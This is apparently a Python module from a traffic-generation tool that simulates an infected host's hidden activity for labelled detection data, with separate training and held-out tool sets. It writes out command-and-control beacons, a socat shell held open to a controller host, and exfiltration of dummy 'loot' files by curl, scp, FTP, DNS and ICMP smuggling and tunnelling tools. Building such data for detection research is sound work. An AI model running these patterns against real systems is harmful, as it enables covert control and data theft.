"""What an infected host does quietly: calls home, carries data out, tunnels through names and echo requests."""

from ..content import log_uniform
from ..plan import Activity
from ..servers import USERS
from . import between
from .benign_shell import with_key

TUNNEL_PORT_LOCAL = 2222


def hidden(plan, category, name, tool, bot, far, port, body, protocol="tcp", linger_s=4.0):
    """An activity of an infected host towards one port of the host that controls it."""
    return Activity(f"{name} {bot}->{far}", tool, category, bot, [between(plan, bot, far, port, protocol)], body, linger_s=linger_s)


BEACON_PORTS = {"http": 8000, "https": 8443, "tcp": 4444, "dns": 53}


def beacon(plan, bot, lair, scheme, every_s, jitter, kept=False, size=32, chatty=0.05):
    """Our own implant: one beat each `every_s` seconds, give or take `jitter`."""
    port = BEACON_PORTS[scheme]

    def body(stage):
        stage.script("beacon.py", f"{scheme}://{stage.ip(lair)}:{port}", stage.left() - 1, stage.rng.random(), "--every", f"{every_s:.3f}", "--jitter", jitter,
                     "--size", size, "--chatty", chatty, *(["--kept"] if kept else []))
    return hidden(plan, "c2", f"beacon {scheme} {'kept' if kept else 'fresh'} {every_s:.1f} s", "beacon.py", bot, lair, port, body,
                  "udp" if scheme == "dns" else "tcp")


def curl_beacon(plan, bot, lair, scheme, every_s, jitter):
    """An implant as short as a line of shell: curl in a loop."""
    port = BEACON_PORTS[scheme]

    def body(stage):
        while stage.left() > 1:
            stage.run("curl", "-s", "-k", "-m", "6", "-o", "/dev/null", f"{scheme}://{stage.ip(lair)}:{port}/tasks?id={stage.rng.randint(1, 9999)}", timeout_s=8)
            if not stage.pause(every_s * (1 - jitter), every_s * (1 + jitter)):
                break
    return hidden(plan, "c2", f"curl beacon {scheme} {every_s:.1f} s", "curl-beacon", bot, lair, port, body)


def socat_shell(plan, bot, lair, every_s):
    """A shell that somebody at the far end seldom uses, held open by socat."""
    def body(stage):
        with open(f"{stage.scratch}/beat", "w") as file:
            file.write(f"while echo beat; do sleep {every_s:.2f}; done\n")
        stage.run("socat", f"TCP:{stage.ip(lair)}:{BEACON_PORTS['tcp']}", f"EXEC:sh {stage.scratch}/beat")
    return hidden(plan, "c2", f"socat shell {every_s:.1f} s", "socat-shell", bot, lair, BEACON_PORTS["tcp"], body)


def upload(plan, bot, lair, size, limit="", pieces=1, every_s=0.0):
    """Archives out over HTTPS, whole or in pieces, at full speed or slowly."""
    def body(stage):
        with open(f"{stage.scratch}/loot", "wb") as file:
            file.write(b"name,account,amount\n" * max(1, size // pieces // 20))
        for _ in range(pieces):
            stage.run("curl", "-s", "-k", *(["--limit-rate", limit] if limit else []), *stage.rng.choice([["-T", f"{stage.scratch}/loot"], ["--http1.1", "-T", f"{stage.scratch}/loot"]]),
                      "-o", "/dev/null", f"https://{stage.ip(lair)}/put/{stage.rng.randint(1, 99)}")
            if not stage.pause(every_s * 0.5, every_s * 1.5 + 0.01):
                break
    return hidden(plan, "exfiltration", f"upload {size} B in {pieces}", "curl-upload", bot, lair, 443, body)


def copy_out(plan, bot, lair, size, limit_kbit=0):
    """scp to the far end."""
    def body(stage):
        with open(f"{stage.scratch}/loot", "wb") as file:
            file.write(b"name,account,amount\n" * (size // 20))
        while stage.left() > 3:
            stage.run("scp", "-q", *(["-l", limit_kbit] if limit_kbit else []), *with_key(stage), f"{stage.scratch}/loot", f"alice@{stage.ip(lair)}:loot")
            if not stage.pause(1, 8):
                break
    return hidden(plan, "exfiltration", f"scp {size} B", "scp-out", bot, lair, 22, body)


def ftp_out(plan, bot, lair, size, count):
    """FTP uploads by lftp; data connections have ports of their own."""
    def body(stage):
        with open(f"{stage.scratch}/loot", "wb") as file:
            file.write(b"name,account,amount\n" * (size // 20))
        puts = "".join(f"put {stage.scratch}/loot -o loot{number}\n!sleep {stage.rng.uniform(0, 2):.1f}\n" for number in range(count))
        stage.run("lftp", "-u", f"bob,{USERS['bob']}", stage.ip(lair), feed=f"set net:max-retries 1\nset net:timeout 6\n{puts}bye\n")
    return hidden(plan, "exfiltration", f"ftp {count} x {size} B", "lftp-out", bot, lair, "", body)


def smuggle(plan, category, bot, lair, way, up, down, low, high):
    """Our own script: data in names or in echo requests; one way out (exfiltration) or both (tunnel)."""
    def body(stage):
        stage.script("smuggle.py", way, stage.ip(lair), stage.left() - 2, stage.rng.random(), up, down, f"{low},{high}")
    return hidden(plan, category, f"smuggle {way} {up}/{down}", "smuggle.py" if category == "tunnel" else f"smuggle-{way}", bot, lair,
                  53 if way == "dns" else "", body, "udp" if way == "dns" else "icmp")


def use_tunnel(stage, base, ssh):
    """What goes through a tunnel: pages, a copy, a shell, silence."""
    while stage.left() > 4:
        what = stage.rng.choice(["page", "page", "copy", "shell", "rest"])
        if what == "page":
            stage.run("curl", "-s", "-m", "15", "-o", "/dev/null", base + stage.rng.choice(["/index.html", "/healthz", "/api/v1/items/1.json"]), timeout_s=16)
        elif what == "copy":
            stage.run("curl", "-s", "-m", "20", "-o", "/dev/null", "-r", "0-60000", base + "/files/0.bin", timeout_s=21)
        elif what == "shell" and ssh:
            stage.run("ssh", *with_key(stage), *ssh, stage.rng.choice(["uptime; sleep 2; df", "cat /etc/services", "for i in 1 2 3 4 5; do ls /; sleep 1; done"]), timeout_s=20)
        if not stage.pause(0.2, 6 if what == "rest" else 1.5):
            break


def iodine(plan, bot, burrow, kind, *flags):
    """IP over DNS by iodine; the far end is `iodined` on `burrow`."""
    def body(stage):
        client = stage.start("iodine", "-f", "-r", "-P", "under", "-T", kind, *flags, stage.ip(burrow), "t.lair.example")
        stage.pause(6)
        use_tunnel(stage, "http://10.251.0.1", ["alice@10.251.0.1"])
        stage.finish(client, 0.1)
    return hidden(plan, "tunnel", f"iodine {kind}", "iodine", bot, burrow, 53, body, "udp")


def dns2tcp(plan, bot, den):
    """TCP over DNS by dns2tcp; the far end lives as long as the activity, for it spins when its client is gone."""
    def body(stage):
        with open(f"{stage.scratch}/conf", "w") as file:
            file.write(f"listen = 0.0.0.0\nport = 53\nuser = root\nchroot = {stage.scratch}\nkey = under\ndomain = d.lair.example\n"
                       "resources = web:127.0.0.1:80, ssh:127.0.0.1:22\n")
        server = stage.start("dns2tcpd", "-F", "-f", f"{stage.scratch}/conf", on=den)
        stage.pause(0.5)
        client = stage.start("dns2tcpc", "-z", "d.lair.example", "-k", "under", "-r", stage.rng.choice(["web", "web", "ssh"]), "-l", TUNNEL_PORT_LOCAL, stage.ip(den))
        stage.pause(2)
        use_tunnel(stage, f"http://127.0.0.1:{TUNNEL_PORT_LOCAL}", None)
        stage.finish(client, 0.1)
        stage.finish(server, 0.1)
    return hidden(plan, "tunnel", "dns2tcp", "dns2tcp", bot, den, 53, body, "udp")


def ptunnel(plan, bot, burrow):
    """TCP over echo requests by ptunnel-ng."""
    def body(stage):
        client = stage.start("ptunnel-ng", f"-p{stage.ip(burrow)}", f"-l{TUNNEL_PORT_LOCAL}", f"-r{stage.ip(burrow)}", "-R80")
        stage.pause(2)
        use_tunnel(stage, f"http://127.0.0.1:{TUNNEL_PORT_LOCAL}", None)
        stage.finish(client, 0.1)
    return hidden(plan, "tunnel", "ptunnel-ng", "ptunnel-ng", bot, burrow, "", body, "icmp", 6.0)


def draw(rng, plan, bot, places, seconds):
    """A random quiet thing and its seconds. `places` names the far ends: lair, burrow."""
    lair, burrow = places["lair"], places["burrow"]
    every, jitter = log_uniform(rng, 0.7, 15), rng.choice([0, 0.02, 0.1, 0.3, 0.5])
    scheme = rng.choice(["http", "https", "https", "tcp", "dns"])
    size = int(log_uniform(rng, 8, 600))
    pause = rng.choice([(0, 0.02), (0.02, 0.3), (0.3, 2), (2, 6)])
    return rng.choice([
        lambda: (seconds, beacon(plan, bot, lair, scheme, every, jitter, rng.random() < 0.3, size, rng.choice([0, 0.05, 0.2]))),
        lambda: (seconds, beacon(plan, bot, lair, scheme, every, jitter, rng.random() < 0.3, size, rng.choice([0, 0.05, 0.2]))),
        lambda: (seconds, beacon(plan, bot, lair, scheme, log_uniform(rng, 0.3, 2), jitter, False, size, rng.choice([0, 0.05]))),
        lambda: (30, upload(plan, bot, lair, int(log_uniform(rng, 100_000, 8_000_000)), rng.choice(["", "", "100K", "400K"]))),
        lambda: (40, upload(plan, bot, lair, int(log_uniform(rng, 300_000, 4_000_000)), rng.choice(["", "200K"]), rng.choice([5, 12, 30]), rng.choice([0.3, 1, 4]))),
        lambda: (40, upload(plan, bot, lair, int(log_uniform(rng, 300_000, 3_000_000)), rng.choice(["", "", "300K"]), rng.choice([20, 60]), rng.choice([0.1, 0.3, 1]))),
        lambda: (25, copy_out(plan, bot, lair, int(log_uniform(rng, 200_000, 6_000_000)), rng.choice([0, 0, 2000]))),
        lambda: (min(seconds, 45), smuggle(plan, "exfiltration", bot, lair, "dns", rng.choice([30, 60, 110]), rng.choice([4, 10]), *pause)),
        lambda: (min(seconds, 45), smuggle(plan, "exfiltration", bot, lair, "icmp", rng.choice([64, 400, 1400]), 0, *pause)),
        lambda: (min(seconds, 45), smuggle(plan, "tunnel", bot, lair, "dns", rng.choice([20, 60, 110]), rng.choice([60, 200, 700]), *pause)),
        lambda: (min(seconds, 45), smuggle(plan, "tunnel", bot, lair, "icmp", rng.choice([200, 900, 1400]), 0, *rng.choice([(0, 0.02), (0.02, 0.3)]))),
        lambda: (40, iodine(plan, bot, burrow, rng.choice(["NULL", "TXT", "TXT", "CNAME", "A", "MX"]), *rng.choice([[], ["-L0"], ["-m", "300"], ["-I", "1"]]))),
        lambda: (40, iodine(plan, bot, burrow, rng.choice(["NULL", "TXT", "SRV"]), *rng.choice([[], ["-L0"], ["-m", "150"], ["-M", "120"]]))),
    ])()


def draw_held_out(rng, plan, bot, places, seconds):
    """The same by tools that no training row has."""
    lair, burrow, den = places["lair"], places["burrow"], places["den"]
    return rng.choice([
        lambda: (seconds, curl_beacon(plan, bot, lair, rng.choice(["http", "https"]), log_uniform(rng, 0.7, 10), rng.choice([0, 0.1, 0.4]))),
        lambda: (seconds, curl_beacon(plan, bot, lair, rng.choice(["http", "https"]), log_uniform(rng, 0.3, 2), rng.choice([0, 0.1, 0.4]))),
        lambda: (seconds, socat_shell(plan, bot, lair, log_uniform(rng, 0.5, 5))),
        lambda: (30, ftp_out(plan, bot, lair, int(log_uniform(rng, 50_000, 3_000_000)), rng.choice([1, 3, 8]))),
        lambda: (40, dns2tcp(plan, bot, den)),
        lambda: (40, ptunnel(plan, bot, burrow)),
    ])()
